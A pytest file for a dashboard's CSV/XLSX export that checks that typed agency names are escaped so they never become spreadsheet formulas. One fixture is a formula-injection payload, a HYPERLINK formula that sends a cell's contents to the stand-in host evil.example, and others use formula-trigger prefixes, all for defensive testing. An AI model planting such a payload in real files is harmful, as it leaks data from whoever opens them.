"""A panel exported as CSV and XLSX: counts stay numbers, shares keep their format, and
text a user typed (an agency's name) can never become a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from api.dashboard.export import to_csv, to_xlsx
from api.dashboard.panels import Cell, Panel

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def panel(agency: str) -> Panel:
    return Panel(
        name="redirects",
        title="Перенаправления по органам-получателям",
        caption="Генеральная прокуратура, 01.10.2026 - 06.12.2026",
        columns=["Орган", "Направлено", "Доля"],
        rows=[[Cell(agency, kind="text"), Cell(4), Cell(0.25, kind="share")]],
        keys=[agency],
    )


@pytest.mark.parametrize("agency", [HOSTILE, "+7 700 000", "-1+1", "@SUM(A1)"])
def test_typed_text_is_never_a_formula(agency: str) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(panel(agency), "ru").decode("utf-8-sig"))))
    assert rows[3][0] == "'" + agency
    sheet = load_workbook(io.BytesIO(to_xlsx(panel(agency), "ru"))).active
    assert sheet is not None
    cell = sheet.cell(row=4, column=1)
    assert cell.data_type == "s" and cell.value == "'" + agency


def test_counts_and_shares_stay_numbers_and_words_stay_words() -> None:
    data = to_csv(panel("Министерство внутренних дел"), "ru")
    assert data.startswith("\ufeff".encode())  # so that spreadsheets read Cyrillic
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["Перенаправления по органам-получателям"]
    assert rows[3][:2] == ["Министерство внутренних дел", "4"]
    sheet = load_workbook(io.BytesIO(to_xlsx(panel("Министерство внутренних дел"), "ru"))).active
    assert sheet is not None
    assert sheet.cell(row=4, column=2).value == 4
    share = sheet.cell(row=4, column=3)
    assert share.value == 0.25 and share.number_format == "0.0%"
